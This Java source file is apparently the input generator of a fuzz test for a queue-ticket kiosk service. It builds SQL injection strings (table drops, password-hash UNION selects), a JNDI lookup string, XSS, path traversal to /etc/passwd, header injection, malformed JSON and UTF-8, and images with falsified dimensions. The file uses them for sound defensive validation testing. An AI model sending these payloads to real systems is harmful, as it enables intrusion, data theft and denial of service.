package id.antrean.drills;

import com.google.zxing.BarcodeFormat;
import com.google.zxing.EncodeHintType;
import com.google.zxing.WriterException;
import com.google.zxing.client.j2se.MatrixToImageWriter;
import com.google.zxing.qrcode.QRCodeWriter;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import javax.imageio.ImageIO;

/**
 * The bad inputs of the fuzz drill, all drawn from one seeded {@link Random}: odd strings (Unicode that trips
 * people and parsers, SQL that would hurt if it ever reached a query as text), broken JSON, numbers no column
 * holds, path segments that try to climb out, and images that are not what they claim.
 */
final class BadInputs {
    /** Strings a form or a scanner could send; each is somewhere a validator has to say no (or cope). */
    static final List<String> ODD_STRINGS = List.of(
            "' OR 1=1 --",
            "'; DROP TABLE ticket; --",
            "1; DELETE FROM staff; --",
            "\" OR \"\"=\"",
            "admin'--",
            "%' UNION SELECT password_hash, token_hash FROM staff, staff_token --",
            "'); SELECT pg_sleep(5); --",
            "$1",
            "\\",
            "\\'\\\"",
            "E'\\x00'",
            "\u0000",
            "UMUM\u0000",
            "\u202Elanruk\u202C",                     // right-to-left override
            "\u200F\u200E\u200B\u2060",                // RTL/LTR marks, zero-width space, word joiner
            "\uFEFFUMUM",                              // byte order mark in front
            "\uD800",                                  // lone high surrogate
            "\uDFFFx\uD800",                           // lone surrogates, reversed
            "\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",   // emoji, joined family
            "e" + "\u0301".repeat(500),                // one letter, 500 combining accents
            "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A",
            "\uFF10\uFF10\uFF10\uFF11\uFF12\uFF13\uFF14\uFF15\uFF16\uFF17\uFF18\uFF19\uFF10",  // full-width digits
            "\u0660\u0660\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660",  // Arabic-Indic digits
            "\u2028\u2029",
            "\t\r\n",
            "\u0007\u001B[31m",
            "\u00A0",
            "   ",
            "",
            "null",
            "undefined",
            "NaN",
            "-0",
            "1e309",
            "0x1F",
            "{{7*7}}",
            "${jndi:ldap://example.invalid/a}",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "%00",
            "%2e%2e%2f",
            "CON",
            "\\\\server\\share",
            "A".repeat(4_000),
            "\u0928\u092E\u0938\u094D\u0924\u0947 \u0E2A\u0E27\u0E31\u0E2A\u0E14\u0E35 \u4F60\u597D \u0645\u0631\u062D\u0628\u0627");

    /** Numbers no field wants: out of range, fractional, beyond int and long, beyond double. Raw JSON literals. */
    static final List<String> ODD_NUMBERS = List.of(
            "-1", "0", "-0", "1.5", "0.0000001", "2147483648", "-2147483649", "9223372036854775807",
            "9223372036854775808", "-9223372036854775809", "1e308", "1e309", "-1e309", "1E400", "1e-400",
            "123456789012345678901234567890", "9".repeat(2_000));

    /** Path segments that try to climb out, hide a NUL, break percent-decoding or are simply too long. */
    static final List<String> ODD_SEGMENTS = List.of(
            "..", "%2e%2e", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2f..%2f..%2fetc%2fpasswd", "%00", "a%00b", "%zz",
            "%", "%C0%AE%C0%AE", "%C0%AF", "%ED%A0%80", "%F0%9F%98%80", "%E2%80%AE", "%EF%BB%BF1", "%FF%FE",
            "x".repeat(300), "9".repeat(40), "-1", "0", "1.5", "1e3", "%20", "%2F", "%5C", "'%20OR%201=1--",
            "%27%3B%20DROP%20TABLE%20ticket%3B--", "%0d%0aX-Injected:%201", "NaN", "null", "9223372036854775808",
            "00000000000000000001", "%2500", "~", "%7B%7D", "1;2", "1,2", "1%20", "%E0%80%80");

    /** Content types a JSON endpoint does not take (or takes only in name). */
    static final List<String> ODD_CONTENT_TYPES = List.of(
            "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
            "application/json; charset=utf-16", "application/json; charset=iso-8859-1", "application/json;;;",
            "APPLICATION/JSON", "application/jsonx", "application/problem+json", "*/*", "image/png", "text/csv",
            "application/octet-stream", "a/b/c", "application/json; boundary=\"", "");

    /** Bad texts for a date parameter (the contract wants yyyy-mm-dd). */
    static final List<String> ODD_DATES = List.of(
            "2026-02-30", "2026-13-01", "0000-00-00", "0000-01-01", "9999-12-31", "+999999999-12-31",
            "-999999999-01-01", "+10000-01-01", "99999-01-01", "2026-1-1", "", "yesterday", "2026-11-25T00:00:00Z",
            "2026-11-25%00", "2026-11-25'%20OR%201=1--", "%F0%9F%98%80", "1970-01-01", "2026-11-25,2026-11-26");

    /** Bad texts for a month parameter (yyyy-mm). */
    static final List<String> ODD_MONTHS = List.of(
            "2026-13", "2026-00", "0000-01", "+999999999-12", "-999999999-01", "+10000-01", "9999-12", "2026-1",
            "", "bulan", "2026-11-25", "%00");

    /** QR texts that are no card number, NIK or ticket of ours (or are, just barely not). */
    static final List<String> ODD_QR_TEXTS = List.of(
            "https://example.invalid/phish",
            "ANTREAN:pkm-demo:999999999999999999999:A-001",
            "ANTREAN:pkm-demo:0:A-001",
            "ANTREAN:klinik-demo:1:A-001",
            "ANTREAN:pkm-demo:1:A-001; DROP TABLE ticket;",
            "ANTREAN:PKM-DEMO:1:A-001",
            "000123456789",
            "00012345678901",
            "0001234567890\u202E",
            "+62 0001234567890",
            "7371013201900001",
            "0000000000000000",
            "' OR 1=1 --",
            "WIFI:S:free;T:nopass;;",
            "BEGIN:VCARD\nFN:Budi\nEND:VCARD",
            "{\"nomorkartu\":\"0001234567890\"",
            "\uD83D\uDE00\u0301\u200F",
            "\u0660\u0660\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660",
            "1".repeat(1_000));

    private final Random random;

    BadInputs(Random random) {
        this.random = random;
    }

    Random random() {
        return random;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    String oddString() {
        return pick(ODD_STRINGS);
    }

    String oddNumber() {
        return pick(ODD_NUMBERS);
    }

    String oddSegment() {
        return pick(ODD_SEGMENTS);
    }

    /** A JSON string literal of an odd string (escaped as JSON requires: lone surrogates as {@code \\uD800}). */
    String oddStringLiteral() {
        return jsonString(oddString());
    }

    /** A value of another JSON type than {@code type}, as a raw JSON literal. */
    String wrongTypeLiteral(String type, List<String> enumValues) {
        List<String> candidates = switch (type) {
            case "integer", "number" -> List.of("\"1\"", "\"one\"", "true", "null", "[]", "{}", "[1]", "\"\"",
                    oddNumber(), oddNumber(), "{\"$gt\":0}");
            case "boolean" -> List.of("\"true\"", "1", "0", "null", "\"yes\"", "[]", "{}", "[true]");
            default -> List.of("5", "-1", "1.5", "true", "false", "null", "{}", "[]", "[\"UMUM\"]",
                    "{\"$ne\":null}", oddNumber(), "0");
        };
        if (!enumValues.isEmpty() && random.nextInt(3) == 0) {
            String valid = pick(enumValues);
            return jsonString(pick(List.of(valid.toLowerCase(), " " + valid, valid + "\u0000", valid + "X",
                    oddString(), valid.repeat(50))));
        }
        return pick(candidates);
    }

    /** A broken or surprising JSON document, built from a valid one. */
    byte[] malformedJson(String valid) {
        String v = valid == null || valid.isEmpty() ? "{}" : valid;
        String text = switch (random.nextInt(26)) {
            case 0 -> v.substring(0, 1 + random.nextInt(Math.max(1, v.length() - 1)));
            case 1 -> v + pick(List.of("garbage", "}", "]", ",{}", "\u0000", " x", "{}", "null"));
            case 2 -> "[".repeat(10_000);
            case 3 -> "[".repeat(10_000) + "]".repeat(10_000);
            case 4 -> "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);
            case 5 -> v.replace('"', '\'');
            case 6 -> v.replaceAll("\"([A-Za-z]+)\":", "$1:");
            case 7 -> "{\"a\":NaN,\"b\":Infinity,\"c\":-Infinity}";
            case 8 -> "{\"a\":01,\"b\":.5,\"c\":+1,\"d\":0x10}";
            case 9 -> "{\"a\":\"\\x41\\u12\"}";
            case 10 -> "{\"a\":\"tab\there\nnewline\"}";
            case 11 -> "/* comment */ " + v;
            case 12 -> v.endsWith("}") && v.length() > 2 ? v.substring(0, v.length() - 1) + ",}" : "{,}";
            case 13 -> "{\"a\"}";
            case 14 -> v.replaceFirst("\\{", "{\"service\":5,\"service\":");
            case 15 -> "";
            case 16 -> "   \n\t ";
            case 17 -> pick(List.of("null", "true", "0", "-1", "\"UMUM\"", "[]", "[{}]", "[" + v + "]"));
            case 18 -> "{\"ticket\":" + "9".repeat(5_000) + "}";
            case 19 -> "{\"ticket\":1e999999999}";
            case 20 -> "{\"a\":\"" + "\\u0000".repeat(1000) + "\"}";
            case 21 -> "{\"a\":\"\\ud800\\udc00\\udfff\\ud800\"}";
            case 22 -> v.repeat(3);
            case 23 -> "{\"" + "k".repeat(60_000) + "\":1}";
            case 24 -> "{" + "\"a\":1,".repeat(5_000) + "\"b\":2}";
            default -> null;
        };
        if (text != null) {
            return text.getBytes(StandardCharsets.UTF_8);
        }
        return pick(List.<byte[]>of(randomBytes(1 + random.nextInt(2_000)), withOddBytes(v)));
    }

    /** The document with byte sequences that are not UTF-8 (overlong, surrogates, truncated) inside a string. */
    byte[] withOddBytes(String valid) {
        byte[][] odd = {
                {(byte) 0xC0, (byte) 0xAF},                         // overlong '/'
                {(byte) 0xC0, (byte) 0x80},                         // overlong NUL
                {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},            // overlong '/', three bytes
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80},            // a UTF-16 surrogate encoded as UTF-8
                {(byte) 0xFF, (byte) 0xFE},                         // never valid
                {(byte) 0xE2, (byte) 0x82},                         // truncated sequence
                {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},  // five bytes
                {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},               // beyond U+10FFFF
                {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}};           // BOM
        byte[] bad = odd[random.nextInt(odd.length)];
        byte[] text = valid.getBytes(StandardCharsets.UTF_8);
        int quote = valid.indexOf("\":\"");
        int at = quote < 0 ? (random.nextBoolean() ? 0 : text.length) : quote + 3;
        ByteBuffer out = ByteBuffer.allocate(text.length + bad.length);
        out.put(text, 0, at).put(bad).put(text, at, text.length - at);
        return out.array();
    }

    byte[] randomBytes(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    /** A body far beyond every limit: a JSON object with a string of {@code size} bytes (valid JSON, just big). */
    static byte[] hugeJson(int size) {
        byte[] bytes = new byte[size];
        byte[] head = "{\"service\":\"UMUM\",\"payer\":\"UMUM\",\"x\":\"".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(head, 0, bytes, 0, head.length);
        Arrays.fill(bytes, head.length, size - 2, (byte) 'a');
        bytes[size - 2] = '"';
        bytes[size - 1] = '}';
        return bytes;
    }

    /** A JSON string literal of any Java string (lone surrogates escaped, so the document stays valid JSON). */
    static String jsonString(String s) {
        StringBuilder out = new StringBuilder("\"");
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c) || c == 0x2028 || c == 0x2029) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    // ----- images -----

    /** Image bodies for the kiosk's /scan: garbage, broken, tiny, absurdly large on paper, or QR codes of odd text. */
    byte[] badImage() {
        return switch (random.nextInt(14)) {
            case 0 -> randomBytes(random.nextInt(50_000));
            case 1 -> concat(PNG_MAGIC, randomBytes(random.nextInt(5_000)));
            case 2 -> concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF}, randomBytes(random.nextInt(5_000)));
            case 3 -> truncate(qrImage(pick(ODD_QR_TEXTS), "png"));
            case 4 -> truncate(qrImage(pick(ODD_QR_TEXTS), "jpg"));
            case 5 -> image(1, 1, "png");
            case 6 -> image(1, 1, "jpg");
            case 7 -> image(20, 20, "png");
            case 8 -> pngDeclaring(pick(List.of(100_000, 65_535, 8_193, 4_097)), pick(List.of(100_000, 65_535, 1)));
            case 9 -> pngDeclaring(pick(List.of(0, 1, Integer.MAX_VALUE, -1)), pick(List.of(0, 1, Integer.MAX_VALUE)));
            case 10 -> jpegDeclaring(pick(List.of(65_535, 9_000, 0)), pick(List.of(65_535, 9_000, 0, 1)));
            case 11 -> pick(List.of("GIF89a".getBytes(StandardCharsets.US_ASCII),
                    concat("BM".getBytes(StandardCharsets.US_ASCII), randomBytes(100)),
                    new byte[] {'I', 'I', 42, 0, 8, 0, 0, 0}, "RIFF\0\0\0\0WEBPVP8 ".getBytes(StandardCharsets.US_ASCII),
                    "<svg xmlns='http://www.w3.org/2000/svg'/>".getBytes(StandardCharsets.US_ASCII), new byte[0]));
            case 12 -> corrupt(qrImage(pick(ODD_QR_TEXTS), random.nextBoolean() ? "png" : "jpg"));
            default -> qrImage(pick(ODD_QR_TEXTS), random.nextBoolean() ? "png" : "jpg");
        };
    }

    private byte[] truncate(byte[] bytes) {
        return Arrays.copyOf(bytes, 8 + random.nextInt(Math.max(1, bytes.length - 8)));
    }

    private byte[] corrupt(byte[] bytes) {
        byte[] copy = bytes.clone();
        for (int i = 0; i < 20; i++) {
            copy[8 + random.nextInt(copy.length - 8)] = (byte) random.nextInt(256);
        }
        return copy;
    }

    static final byte[] PNG_MAGIC = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};

    /** A PNG whose header claims this size (with a correct CRC), followed by a few bytes of nothing. */
    static byte[] pngDeclaring(int width, int height) {
        ByteBuffer ihdr = ByteBuffer.allocate(17);
        ihdr.put("IHDR".getBytes(StandardCharsets.US_ASCII)).putInt(width).putInt(height)
                .put((byte) 8).put((byte) 0).put((byte) 0).put((byte) 0).put((byte) 0);
        CRC32 crc = new CRC32();
        crc.update(ihdr.array());
        ByteBuffer png = ByteBuffer.allocate(8 + 4 + 17 + 4 + 12);
        png.put(PNG_MAGIC).putInt(13).put(ihdr.array()).putInt((int) crc.getValue());
        png.putInt(0).put("IDAT".getBytes(StandardCharsets.US_ASCII)).putInt(0x35AF061E);
        return png.array();
    }

    /** A baseline JPEG header (SOI, SOF0) claiming this size, then the end. */
    static byte[] jpegDeclaring(int width, int height) {
        ByteBuffer jpeg = ByteBuffer.allocate(2 + 2 + 2 + 15 + 2);
        jpeg.put((byte) 0xFF).put((byte) 0xD8)
                .put((byte) 0xFF).put((byte) 0xC0).putShort((short) 11).put((byte) 8)
                .putShort((short) height).putShort((short) width).put((byte) 1)
                .put((byte) 1).put((byte) 0x11).put((byte) 0)
                .put((byte) 0xFF).put((byte) 0xD9);
        return Arrays.copyOf(jpeg.array(), jpeg.position());
    }

    static byte[] image(int width, int height, String format) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        return write(image, format);
    }

    /** A clean QR code of this text, as a camera would see a screen (PNG or JPEG). */
    static byte[] qrImage(String text, String format) {
        try {
            BufferedImage image = MatrixToImageWriter.toBufferedImage(new QRCodeWriter().encode(text,
                    BarcodeFormat.QR_CODE, 300, 300, Map.of(EncodeHintType.CHARACTER_SET, "UTF-8")));
            BufferedImage rgb = new BufferedImage(image.getWidth(), image.getHeight(), BufferedImage.TYPE_INT_RGB);
            rgb.getGraphics().drawImage(image, 0, 0, null);
            return write(rgb, format);
        } catch (WriterException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] write(BufferedImage image, String format) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            ImageIO.write(image, format, out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
